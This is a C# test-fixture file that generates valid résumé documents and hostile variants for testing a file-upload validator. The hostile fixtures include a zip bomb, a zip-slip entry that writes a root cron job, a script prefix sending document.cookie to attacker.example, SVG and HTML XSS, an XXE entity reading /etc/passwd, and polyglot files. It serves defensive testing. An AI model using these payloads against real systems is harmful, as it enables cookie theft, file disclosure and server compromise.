using System.Buffers.Binary;
using System.Globalization;
using System.IO.Compression;
using System.Text;

namespace Passerelle.Testing;

// The documents: small but structurally valid files of each accepted kind, and the hostile ones made from them.
public static partial class HostileInputs
{
    private const string ApplicantName = "Marie Dupont";
    private const string ApplicantEmail = "marie.dupont@example.com";

    /// <summary>
    /// A one-page PDF of exactly <paramref name="size"/> bytes (at least about 900) naming the applicant, with a
    /// correct cross-reference table: PDF readers open it, and its size can sit exactly on a limit.
    /// </summary>
    public static byte[] ValidPdf(int size = 2048)
    {
        var minimum = Pdf(padding: 0).Length;
        ArgumentOutOfRangeException.ThrowIfLessThan(size, minimum);

        // The padding stream's length and the offsets after it are written in decimal, so each extra digit moves the
        // total: start past the target and step back until it fits, sizing only the small parts around the padding,
        // then fill the last bytes with end-of-line padding.
        var padding = size - minimum;
        while (Pdf(padding).Length > size)
        {
            padding--;
        }

        var (head, tail) = Pdf(padding);
        var pdf = new byte[size];
        head.CopyTo(pdf, 0);
        Filler(pdf.AsSpan(head.Length, padding));
        tail.CopyTo(pdf, head.Length + padding);
        pdf.AsSpan(head.Length + padding + tail.Length).Fill((byte)'\n');
        return pdf;
    }

    /// <summary>A Word document (DOCX) with one paragraph naming the applicant; Open XML SDK opens it.</summary>
    public static byte[] ValidDocx() => Zip(DocxEntries());

    /// <summary>An OpenDocument text (ODT): <c>mimetype</c> first and stored, a manifest, and content naming the applicant.</summary>
    public static byte[] ValidOdt() => Zip(OdtEntries());

    public static byte[] ValidRtf() => Encoding.ASCII.GetBytes(
        "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Helvetica;}}\\f0\\fs24 " + ApplicantName + "\\par " + ApplicantEmail +
        "\\par D\\'e9veloppeuse .NET\\par}\r\n");

    public static byte[] ValidTxt() => Encoding.UTF8.GetBytes(
        $"{ApplicantName}\n{ApplicantEmail}\n+33 6 12 34 56 78\n\nDéveloppeuse .NET — Lyon\nExpérience : 8 ans\n");

    /// <summary>
    /// A Word 97-2003 file as a compound file: a version-3 header, one FAT sector, one directory sector holding the
    /// root and a <c>WordDocument</c> stream, and that stream (a FIB signature, then zeros) over eight sectors.
    /// </summary>
    public static byte[] ValidDoc()
    {
        const int sector = 512;
        const uint endOfChain = 0xFFFFFFFE, free = 0xFFFFFFFF, fatSector = 0xFFFFFFFD;
        var file = new byte[sector * (1 + 1 + 1 + 8)];
        var header = file.AsSpan(0, sector);
        new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 }.CopyTo(header);
        BinaryPrimitives.WriteUInt16LittleEndian(header[0x18..], 0x003E);
        BinaryPrimitives.WriteUInt16LittleEndian(header[0x1A..], 3);
        BinaryPrimitives.WriteUInt16LittleEndian(header[0x1C..], 0xFFFE);
        BinaryPrimitives.WriteUInt16LittleEndian(header[0x1E..], 9);
        BinaryPrimitives.WriteUInt16LittleEndian(header[0x20..], 6);
        BinaryPrimitives.WriteUInt32LittleEndian(header[0x2C..], 1);
        BinaryPrimitives.WriteUInt32LittleEndian(header[0x30..], 1);
        BinaryPrimitives.WriteUInt32LittleEndian(header[0x38..], 4096);
        BinaryPrimitives.WriteUInt32LittleEndian(header[0x3C..], endOfChain);
        BinaryPrimitives.WriteUInt32LittleEndian(header[0x44..], endOfChain);
        for (var i = 0; i < 109; i++)
        {
            BinaryPrimitives.WriteUInt32LittleEndian(header[(0x4C + 4 * i)..], i == 0 ? 0 : free);
        }

        // FAT (sector 0): itself, the directory (sector 1), then the stream's chain 2 → 9.
        var fat = file.AsSpan(sector * 1, sector);
        for (var i = 0; i < sector / 4; i++)
        {
            var next = i switch { 0 => fatSector, 1 => endOfChain, >= 2 and < 9 => (uint)(i + 1), 9 => endOfChain, _ => free };
            BinaryPrimitives.WriteUInt32LittleEndian(fat[(4 * i)..], next);
        }

        var directory = file.AsSpan(sector * 2, sector);
        DirectoryEntry(directory[..128], "Root Entry", type: 5, child: 1, start: endOfChain, size: 0);
        DirectoryEntry(directory[128..256], "WordDocument", type: 2, child: free, start: 2, size: 8 * sector);
        DirectoryEntry(directory[256..384], "", type: 0, child: free, start: 0, size: 0);
        DirectoryEntry(directory[384..], "", type: 0, child: free, start: 0, size: 0);

        // The File Information Block starts with wIdent 0xA5EC and nFib 0x00C1 (Word 97).
        var stream = file.AsSpan(sector * 3);
        BinaryPrimitives.WriteUInt16LittleEndian(stream, 0xA5EC);
        BinaryPrimitives.WriteUInt16LittleEndian(stream[2..], 0x00C1);
        return file;

        static void DirectoryEntry(Span<byte> entry, string name, byte type, uint child, uint start, uint size)
        {
            const uint none = 0xFFFFFFFF;
            var nameBytes = Encoding.Unicode.GetBytes(name);
            nameBytes.CopyTo(entry);
            BinaryPrimitives.WriteUInt16LittleEndian(entry[0x40..], (ushort)(name.Length == 0 ? 0 : nameBytes.Length + 2));
            entry[0x42] = type;
            entry[0x43] = 1;
            BinaryPrimitives.WriteUInt32LittleEndian(entry[0x44..], none);
            BinaryPrimitives.WriteUInt32LittleEndian(entry[0x48..], none);
            BinaryPrimitives.WriteUInt32LittleEndian(entry[0x4C..], child);
            BinaryPrimitives.WriteUInt32LittleEndian(entry[0x74..], start);
            BinaryPrimitives.WriteUInt32LittleEndian(entry[0x78..], size);
        }
    }

    /// <summary>The PDF around its padding stream: the bytes before the padding's content and those after it.</summary>
    private static PdfParts Pdf(int padding)
    {
        var text = $"BT /F1 24 Tf 72 770 Td ({ApplicantName}) Tj 0 -30 Td ({ApplicantEmail}) Tj ET";
        var objects = new List<string>
        {
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            $"<< /Length {text.Length} >>\nstream\n{text}\nendstream",
        };

        using var head = new MemoryStream();
        head.Write("%PDF-1.7\n%"u8);
        // A comment of bytes above 127 right after the header tells transfer tools the file is binary.
        head.Write([0xE2, 0xE3, 0xCF, 0xD3, (byte)'\n']);
        var offsets = new List<long>();
        foreach (var body in objects)
        {
            offsets.Add(head.Position);
            head.Write(Ascii($"{offsets.Count} 0 obj\n{body}\nendobj\n"));
        }

        offsets.Add(head.Position);
        head.Write(Ascii($"{offsets.Count} 0 obj\n<< /Length {padding} >>\nstream\n"));

        var tail = new StringBuilder("\nendstream\nendobj\n");
        var xref = head.Position + padding + tail.Length;
        tail.Append(CultureInfo.InvariantCulture, $"xref\n0 {offsets.Count + 1}\n0000000000 65535 f\r\n");
        foreach (var offset in offsets)
        {
            tail.Append(CultureInfo.InvariantCulture, $"{offset:D10} 00000 n\r\n");
        }

        tail.Append(CultureInfo.InvariantCulture, $"trailer\n<< /Size {offsets.Count + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return new PdfParts(head.ToArray(), Ascii(tail.ToString()), padding);
    }

    private sealed record PdfParts(byte[] Head, byte[] Tail, int Padding)
    {
        public int Length => Head.Length + Padding + Tail.Length;

        public void Deconstruct(out byte[] head, out byte[] tail) => (head, tail) = (Head, Tail);
    }

    private static byte[] Filler(int length)
    {
        var filler = new byte[length];
        Filler(filler);
        return filler;
    }

    private static void Filler(Span<byte> filler)
    {
        var pattern = "Passerelle test padding 0123456789 "u8;
        for (var i = 0; i < filler.Length; i += pattern.Length)
        {
            pattern[..Math.Min(pattern.Length, filler.Length - i)].CopyTo(filler[i..]);
        }
    }

    private static List<ZipItem> DocxEntries() =>
    [
        new("[Content_Types].xml", Utf8(
            """<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>""")),
        new("_rels/.rels", Utf8(
            """<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>""")),
        new("word/document.xml", Utf8(
            $"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{ApplicantName}</w:t></w:r></w:p><w:p><w:r><w:t>{ApplicantEmail}</w:t></w:r></w:p><w:p><w:r><w:t>Développeuse .NET</w:t></w:r></w:p></w:body></w:document>""")),
    ];

    private static List<ZipItem> OdtEntries() =>
    [
        new("mimetype", Utf8("application/vnd.oasis.opendocument.text"), CompressionLevel.NoCompression),
        new("META-INF/manifest.xml", Utf8(
            """<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>""")),
        new("content.xml", Utf8(
            $"""<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3"><office:body><office:text><text:p>{ApplicantName}</text:p><text:p>{ApplicantEmail}</text:p></office:text></office:body></office:document-content>""")),
    ];

    private sealed record ZipItem(string Name, byte[] Content, CompressionLevel Level = CompressionLevel.Optimal);

    private static byte[] Zip(IEnumerable<ZipItem> items)
    {
        using var zip = new MemoryStream();
        using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var item in items)
            {
                using var entry = archive.CreateEntry(item.Name, item.Level).Open();
                entry.Write(item.Content);
            }
        }

        return zip.ToArray();
    }

    // Hostile documents, each one thing wrong with an otherwise valid file.

    private static readonly Lazy<byte[]> RatioBombDocx = new(() =>
        Zip([.. DocxEntries(), new ZipItem("customXml/item1.xml", new byte[20 * 1024 * 1024])]));

    private static readonly Lazy<byte[]> CrowdedDocx = new(() =>
        Zip([.. DocxEntries(), .. Enumerable.Range(1, 1_001).Select(i => new ZipItem($"word/media/image{i}.png", [0x89, 0x50, 0x4E, 0x47]))]));

    /// <summary>
    /// A DOCX whose <c>word/media/image1.bin</c> inflates to 512 KiB while both its headers claim 100 bytes. Its
    /// content does not compress, so nothing but the lie (no ratio, no total) gives it away.
    /// </summary>
    private static readonly Lazy<byte[]> LyingSizesDocx = new(() =>
    {
        var noise = new byte[512 * 1024];
        new Random(7).NextBytes(noise);
        var zip = Zip([.. DocxEntries(), new ZipItem("word/media/image1.bin", noise)]);
        PatchUncompressedSize(zip, "word/media/image1.bin", 100);
        return zip;
    });

    private static byte[] NestedZipDocx() =>
        Zip([.. DocxEntries(), new ZipItem("word/embeddings/inner.docx", ValidDocx())]);

    private static byte[] ZipSlipDocx() =>
        Zip([.. DocxEntries(), new ZipItem("../../../etc/cron.d/passerelle", Utf8("* * * * * root sh -c id\n"))]);

    private static byte[] DocxWithoutDocument() =>
        Zip(DocxEntries().Where(e => e.Name != "word/document.xml").Append(new ZipItem("word/styles.xml", Utf8("<w:styles/>"))));

    private static byte[] DocxWithMacros() =>
        Zip([.. DocxEntries(), new ZipItem("word/vbaProject.bin", new byte[512])]);

    private static byte[] Spreadsheet() => Zip(
    [
        new("[Content_Types].xml", Utf8("""<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>""")),
        new("xl/workbook.xml", Utf8("""<?xml version="1.0"?><workbook/>""")),
    ]);

    private static byte[] OdtWithCompressedMimetype() =>
        Zip(OdtEntries().Select(e => e.Name == "mimetype" ? e with { Level = CompressionLevel.Optimal } : e));

    private static byte[] PlainZip() => Zip([new ZipItem("readme.txt", Utf8("Just a ZIP archive.\n"))]);

    private static byte[] UnreadableZip()
    {
        var bytes = new byte[300];
        new Random(6).NextBytes(bytes);
        "PK\x03\x04"u8.CopyTo(bytes);
        return bytes;
    }

    private static byte[] PdfWithZipAppended() => [.. ValidPdf(2048), .. ValidDocx()];

    /// <summary>A GIF image with a DOCX appended: an image to a browser, a document to any ZIP reader.</summary>
    private static byte[] Gifar() =>
    [
        .. "GIF89a"u8, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0x00, 0x00, 0x00, 0x21, 0xF9, 0x04, 0x01,
        0x00, 0x00, 0x00, 0x00, 0x2C, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3B,
        .. ValidDocx(),
    ];

    private static byte[] HtmlPrefixedPdf() =>
        [.. Utf8("<html><body><script>fetch('https://attacker.example/'+document.cookie)</script></body></html>\n"), .. ValidPdf(2048)];

    private static byte[] HtmlPrefixedDocx() =>
        [.. Utf8("<!doctype html><html><body><script>alert(document.domain)</script></body></html>\n"), .. ValidDocx()];

    /// <summary>A ZIP whose first entry, stored, holds a PDF: PDF readers find its header in the first kilobyte.</summary>
    private static byte[] ZipWithPdfInside() =>
        Zip([new ZipItem("a.pdf", ValidPdf(1024), CompressionLevel.NoCompression), .. DocxEntries()]);

    private static byte[] Png() =>
        [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, .. "IHDR"u8, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01,
         0x08, 0x06, 0x00, 0x00, 0x00, 0x1F, 0x15, 0xC4, 0x89, 0x00, 0x00, 0x00, 0x00, .. "IEND"u8, 0xAE, 0x42, 0x60, 0x82];

    private static byte[] WindowsExecutable()
    {
        var exe = new byte[1024];
        "MZ"u8.CopyTo(exe);
        BinaryPrimitives.WriteInt32LittleEndian(exe.AsSpan(0x3C), 0x80);
        "PE\0\0"u8.CopyTo(exe.AsSpan(0x80));
        "This program cannot be run in DOS mode."u8.CopyTo(exe.AsSpan(0x4E));
        return exe;
    }

    private static byte[] LinuxExecutable() =>
        [0x7F, .. "ELF"u8, 0x02, 0x01, 0x01, 0x00, .. new byte[8], 0x02, 0x00, 0x3E, 0x00, 0x01, 0x00, 0x00, 0x00, .. new byte[40]];

    private static byte[] Gzip()
    {
        using var gzip = new MemoryStream();
        using (var compressor = new GZipStream(gzip, CompressionLevel.Optimal, leaveOpen: true))
        {
            compressor.Write(ValidTxt());
        }

        return gzip.ToArray();
    }

    private static byte[] Html() => Utf8("<!DOCTYPE html>\n<html><body><h1>Marie Dupont</h1><script>alert(1)</script></body></html>\n");

    private static byte[] Svg() => Utf8(
        """<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><text x="0" y="15">Marie Dupont</text></svg>""");

    private static byte[] Xml() => Utf8("""  <?xml version="1.0"?><!DOCTYPE cv [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><cv>&xxe;</cv>""");

    private static byte[] TruncatedPdf() => ValidPdf(4096)[..3000];

    private static byte[] ShortDoc() => ValidDoc()[..100];

    private static byte[] TruncatedRtf() => ValidRtf()[..^8];

    private static byte[] Latin1Text() => Encoding.Latin1.GetBytes("Élodie Martin\nDéveloppeuse à Lyon, expérience : 8 ans\n");

    private static byte[] TextWithNul() => [.. ValidTxt(), 0x00, .. ValidTxt()];

    /// <summary>Sets the uncompressed size of one entry in both its local header and its central directory record.</summary>
    private static void PatchUncompressedSize(byte[] zip, string name, uint size)
    {
        var nameBytes = Encoding.UTF8.GetBytes(name);
        var patched = 0;
        for (var i = 0; i + 46 < zip.Length; i++)
        {
            var signature = BinaryPrimitives.ReadUInt32LittleEndian(zip.AsSpan(i));
            if (signature == 0x04034b50 && zip.AsSpan(i + 30).StartsWith(nameBytes) && BinaryPrimitives.ReadUInt16LittleEndian(zip.AsSpan(i + 26)) == nameBytes.Length)
            {
                BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(i + 22), size);
                patched++;
            }
            else if (signature == 0x02014b50 && zip.AsSpan(i + 46).StartsWith(nameBytes) && BinaryPrimitives.ReadUInt16LittleEndian(zip.AsSpan(i + 28)) == nameBytes.Length)
            {
                BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(i + 24), size);
                patched++;
            }
        }

        if (patched != 2)
        {
            throw new InvalidOperationException($"Expected to patch 2 headers of {name}, patched {patched}.");
        }
    }

    private static byte[] Ascii(string text) => Encoding.ASCII.GetBytes(text);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);
}
